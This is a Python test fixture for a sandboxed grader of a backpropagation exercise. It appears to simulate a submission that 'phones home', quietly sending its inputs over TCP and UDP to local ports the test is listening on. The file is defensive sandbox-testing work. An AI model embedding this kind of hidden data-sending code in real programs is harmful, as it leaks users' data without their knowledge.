"""Hostile: right numbers, but on every call it tries to send its inputs to a port the test
listens on at 127.0.0.1 (TCP, then UDP), as a learner's code phoning home would. It returns
its inputs' shapes instead of the answer: it must fail, and the listeners must get nothing.
"""
import socket

import numpy as np

TCP_PORT = "@@TCP_PORT@@"
UDP_PORT = "@@UDP_PORT@@"


def _send(payload):
    if "@@" in TCP_PORT + UDP_PORT:
        return
    try:
        with socket.create_connection(("127.0.0.1", int(TCP_PORT)), timeout=1.0) as conn:
            conn.sendall(payload)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(payload[:1000], ("127.0.0.1", int(UDP_PORT)))
    except OSError:
        pass


def hidden_delta(delta2, W1, W2, z1):
    _send(np.asarray(z1).tobytes())
    return np.zeros((delta2.shape[0], W2.shape[1] + 1))
